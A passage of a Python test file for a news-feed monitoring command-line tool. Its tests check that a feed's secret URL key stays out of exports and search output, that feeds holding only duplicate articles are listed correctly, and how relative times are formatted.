    key the export must not give away (docs/database.md, Sharing a copy)."""
    body = (
        b'<rss version="2.0"><channel><link>https://partner.example/</link><item>'
        b"<title>Police cleared a camp in Calais</title><link>https://news.example/camp</link>"
        b"<description>Police cleared tents near Calais.</description></item></channel></rss>"
    )
    server.route("/feed.rss?key=s3cret", body)
    feed_url = server.url("/feed.rss?key=s3cret")
    config = write_config([feed_url], rules={"paths": [str(REPO / "rules")]})
    vigie("once", "--config", config)
    exported = vigie("articles", "export", "--since", "0", "--format", "csv", "--config", config)
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert rows and {r["feed"] for r in rows} == {server.host}
    [line] = vigie("articles", "export", "--since", "0", "--config", config).stdout.splitlines()
    assert json.loads(line)["feed"] == server.host
    shown = vigie("articles", "show", str(rows[0]["article_id"]), "--config", config)
    assert f"  {server.host} · language" in shown.stdout
    # And in search results (a code review): their outlet was empty too.
    found = vigie("articles", "search", "camp", "--json", "--config", config).stdout
    assert [row["feed_name"] for row in json.loads(found)] == [server.host]
    listed = vigie("articles", "search", "camp", "--config", config).stdout
    assert f"#{rows[0]['article_id']} {server.host}" in listed
    assert "s3cret" not in exported.stdout + line + shown.stdout + found + listed


def test_feeds_list_shows_a_feed_whose_items_are_all_copies_as_working(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    """A section feed carrying the main feed's articles showed 0 items, status 200: it looked
    broken, with nothing saying that its items were copies of articles already stored."""
    item = (
        "<item><title>Camp cleared</title><link>https://news.example/camp</link>"
        "<description>Tents near Calais were cleared at dawn.</description></item>"
    )
    for name in ("main", "section"):
        (tmp_path / f"{name}.rss").write_text(
            f'<rss version="2.0"><channel><title>{name}</title>{item}</channel></rss>'
        )
    config = write_config([str(tmp_path / "main.rss"), str(tmp_path / "section.rss")])
    vigie("once", "--config", config)
    listed = json.loads(vigie("feeds", "list", "--json", "--config", config).stdout)
    # Polled at once: either may be the one that stored the article.
    assert sorted((f["items"], f["copies"]) for f in listed) == [(0, 1), (1, 0)]
    table = vigie("feeds", "list", "--config", config).stdout
    assert "0 +1 copy" in table, table


def test_times_in_tables_say_seconds_rather_than_now() -> None:
    """A digest to be retried 57 s on was listed "now", as if due (a re-test)."""
    from monitor.cli_common import ago

    at = datetime(2026, 12, 5, 3, 0, tzinfo=UTC)
    assert ago(at + timedelta(seconds=57), at) == "in 57s"
    assert ago(at - timedelta(minutes=3, seconds=5), at) == "3m ago"
    assert ago(at + timedelta(milliseconds=300), at) == "now"
